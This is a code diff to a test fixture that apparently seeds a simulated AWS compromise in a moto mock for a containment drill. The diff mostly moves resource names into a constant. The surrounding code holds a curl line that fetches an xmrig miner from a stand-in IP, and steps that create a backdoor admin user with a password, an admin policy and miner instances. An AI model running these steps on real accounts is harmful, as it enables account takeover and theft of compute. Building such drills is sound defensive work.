@@ -59,6 +59,21 @@ export const MINER_USER_DATA = '#!/bin/bash\ncurl -s http://203.0.113.7/xmrig -o
 /** Attacker key pair name, in every attacker region. */
 export const MINER_KEY = 'miner-key';
 
+/** The names the scenario gives what it creates: the drill and tests find its resources by them. */
+export const SCENARIO_NAMES = {
+  attackerUser: 'svc-build',
+  backdoorUser: 'backup-admin',
+  backdoorPolicy: 'ops-admin',
+  instanceRole: 'miner-node',
+  minerKey: MINER_KEY,
+  minerType: 'p3.2xlarge',
+  launchTemplate: 'miner-lt',
+  asgName: 'miner-asg',
+  targetGroup: 'miner-tg',
+  controlUser: 'ci-deployer',
+  controlKey: 'ops-deploy',
+} as const;
+
 /** Kinds of attacker instance: each exercises a different containment path. */
 export type MinerKind = 'plain' | 'asg' | 'two-eni' | 'spot' | 'stopped';
 
@@ -104,7 +119,7 @@ export interface AttackScenario {
 }
 
 const AMI = 'ami-12c6146b'; // present in moto's default AMI set in every region
-const MINER_TYPE = 'p3.2xlarge';
+const MINER_TYPE = SCENARIO_NAMES.minerType;
 
 function clientConfig(endpoint: string, region: string) {
   return { endpoint, region, credentials: MOTO_CREDENTIALS };
@@ -132,33 +147,33 @@ export async function seedAttack(endpoint: string): Promise<AttackScenario> {
     (
       await east.send(
         new RunInstancesCommand({
-          ImageId: AMI, InstanceType: 't3.micro', MinCount: 1, MaxCount: 1, KeyName: 'ops-deploy',
+          ImageId: AMI, InstanceType: 't3.micro', MinCount: 1, MaxCount: 1, KeyName: SCENARIO_NAMES.controlKey,
           TagSpecifications: [{ ResourceType: 'instance', Tags: [{ Key: 'Owner', Value: 'platform-team' }] }],
         }),
       )
     ).Instances![0].InstanceId!;
 
   // Before the window: the platform team's key pair and server, a CI user, and the user whose key will be stolen.
-  await east.send(new CreateKeyPairCommand({ KeyName: 'ops-deploy' }));
+  await east.send(new CreateKeyPairCommand({ KeyName: SCENARIO_NAMES.controlKey }));
   const instanceBeforeWindow = await controlLaunch();
-  await iam.send(new CreateUserCommand({ UserName: 'ci-deployer' }));
-  await iam.send(new CreateAccessKeyCommand({ UserName: 'ci-deployer' }));
-  const attackerUser = 'svc-build';
+  await iam.send(new CreateUserCommand({ UserName: SCENARIO_NAMES.controlUser }));
+  await iam.send(new CreateAccessKeyCommand({ UserName: SCENARIO_NAMES.controlUser }));
+  const attackerUser = SCENARIO_NAMES.attackerUser;
   const attackerUserArn = (await iam.send(new CreateUserCommand({ UserName: attackerUser }))).User!.Arn!;
   const attackerKeyId = (await iam.send(new CreateAccessKeyCommand({ UserName: attackerUser }))).AccessKey!.AccessKeyId!;
 
   const start = await nextSecond();
 
   // In the window, with svc-build's key: a backdoor admin and a role for the miners.
-  const backdoorUser = 'backup-admin';
+  const backdoorUser = SCENARIO_NAMES.backdoorUser;
   await iam.send(new CreateUserCommand({ UserName: backdoorUser }));
   const backdoorKeyId = (await iam.send(new CreateAccessKeyCommand({ UserName: backdoorUser }))).AccessKey!.AccessKeyId!;
   await iam.send(new CreateLoginProfileCommand({ UserName: backdoorUser, Password: 'Backdoor-Passw0rd!' }));
   await iam.send(new PutUserPolicyCommand({ UserName: backdoorUser, PolicyName: 'admin', PolicyDocument: ADMIN }));
   // moto loads AWS managed policies only on request (slow); a customer-managed admin policy is what attackers create anyway.
-  const backdoorPolicyArn = (await iam.send(new CreatePolicyCommand({ PolicyName: 'ops-admin', PolicyDocument: ADMIN }))).Policy!.Arn!;
+  const backdoorPolicyArn = (await iam.send(new CreatePolicyCommand({ PolicyName: SCENARIO_NAMES.backdoorPolicy, PolicyDocument: ADMIN }))).Policy!.Arn!;
   await iam.send(new AttachUserPolicyCommand({ UserName: backdoorUser, PolicyArn: backdoorPolicyArn }));
-  const instanceRole = 'miner-node';
+  const instanceRole = SCENARIO_NAMES.instanceRole;
   await iam.send(new CreateRoleCommand({ RoleName: instanceRole, AssumeRolePolicyDocument: JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { Service: 'ec2.amazonaws.com' }, Action: 'sts:AssumeRole' }] }) }));
   await iam.send(new CreateInstanceProfileCommand({ InstanceProfileName: instanceRole }));
   await iam.send(new AddRoleToInstanceProfileCommand({ InstanceProfileName: instanceRole, RoleName: instanceRole }));
@@ -182,7 +197,7 @@ export async function seedAttack(endpoint: string): Promise<AttackScenario> {
   const allocationId = (await east.send(new AllocateAddressCommand({ Domain: 'vpc' }))).AllocationId!;
   await east.send(new AssociateAddressCommand({ AllocationId: allocationId, InstanceId: plain }));
   const elb = new ElasticLoadBalancingV2Client(clientConfig(endpoint, 'us-east-1'));
-  const targetGroupArn = (await elb.send(new CreateTargetGroupCommand({ Name: 'miner-tg', Protocol: 'HTTP', Port: 80, VpcId: network['us-east-1'].vpcId, TargetType: 'instance' }))).TargetGroups![0].TargetGroupArn!;
+  const targetGroupArn = (await elb.send(new CreateTargetGroupCommand({ Name: SCENARIO_NAMES.targetGroup, Protocol: 'HTTP', Port: 80, VpcId: network['us-east-1'].vpcId, TargetType: 'instance' }))).TargetGroups![0].TargetGroupArn!;
   await elb.send(new RegisterTargetsCommand({ TargetGroupArn: targetGroupArn, Targets: [{ Id: plain, Port: 80 }] }));
   const imageId = (await east.send(new CreateImageCommand({ InstanceId: plain, Name: 'miner-golden' }))).ImageId!;
   images.push({ region: 'us-east-1', imageId });
@@ -190,16 +205,16 @@ export async function seedAttack(endpoint: string): Promise<AttackScenario> {
   // us-east-1: an Auto Scaling group keeping one miner alive, from a template following $Latest.
   await east.send(
     new CreateLaunchTemplateCommand({
-      LaunchTemplateName: 'miner-lt',
+      LaunchTemplateName: SCENARIO_NAMES.launchTemplate,
       LaunchTemplateData: { ImageId: AMI, InstanceType: MINER_TYPE, KeyName: MINER_KEY, SecurityGroupIds: [network['us-east-1'].workloadSg] },
     }),
   );
-  const asgName = 'miner-asg';
+  const asgName = SCENARIO_NAMES.asgName;
   const autoscaling = new AutoScalingClient(clientConfig(endpoint, 'us-east-1'));
   await autoscaling.send(
     new CreateAutoScalingGroupCommand({
       AutoScalingGroupName: asgName,
-      LaunchTemplate: { LaunchTemplateName: 'miner-lt', Version: '$Latest' },
+      LaunchTemplate: { LaunchTemplateName: SCENARIO_NAMES.launchTemplate, Version: '$Latest' },
       MinSize: 1,
       MaxSize: 3,
       DesiredCapacity: 1,
@@ -273,7 +288,7 @@ export async function seedAttack(endpoint: string): Promise<AttackScenario> {
     snapshotId,
     euVolume,
     vpcs,
-    control: { keyName: 'ops-deploy', instanceBeforeWindow, instanceInWindow, userName: 'ci-deployer' },
+    control: { keyName: SCENARIO_NAMES.controlKey, instanceBeforeWindow, instanceInWindow, userName: SCENARIO_NAMES.controlUser },
   };
 }
 
